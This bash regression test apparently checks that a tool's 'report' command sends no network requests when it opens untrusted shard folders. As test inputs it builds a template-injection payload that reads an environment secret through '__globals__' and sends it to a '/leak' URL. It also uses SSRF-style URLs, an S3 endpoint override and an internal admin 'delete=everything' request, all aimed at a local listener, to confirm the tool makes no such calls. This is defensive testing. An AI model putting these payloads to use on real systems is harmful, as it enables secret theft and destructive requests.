#!/bin/bash
# A folder of latents names shards on a server: report sends no request, no variable, no credentials.
source "$(dirname "$0")/../lib.sh"

python "$CASES/listener.py" port log &
listener=$!
trap 'kill $listener; rm -rf "$WORK"' EXIT
until [ -s port ]; do sleep 0.1; done
server=127.0.0.1:$(cat port)
export MY_SECRET=topsecret
export AWS_ACCESS_KEY_ID=AKIAVICTIM AWS_SECRET_ACCESS_KEY=x AWS_SESSION_TOKEN=SESSIONTOKEN
cat > address.py <<'P'
import base64
import json
import sys

leak = f"http://{sys.argv[1]}/leak?k=" + "{{a.__globals__[os].environ[MY_SECRET]}}"
record = {"version": 1, "templates": {"a": "{{x}}"}, "refs": {"x.tar": [leak]}}
data = base64.b64encode(json.dumps(record).encode()).decode()
print("reference://x.tar::data:application/x.json;base64," + data)
P
python "$CASES/stranger.py" st1 "s3://bucket/x.tar?scheme=http&endpoint_override=$server&region=us-east-1"
python "$CASES/stranger.py" st2 "http://$server/internal/admin?delete=everything"
python "$CASES/stranger.py" st3 "$(python address.py "$server")"
for folder in st1 st2 st3; do
  told 6 120 restyle report $folder --out r.html
  [ ! -e log ] || wrong "no request by report $folder" "$(sort -u log)"
  rm -f log
done
exit $failed
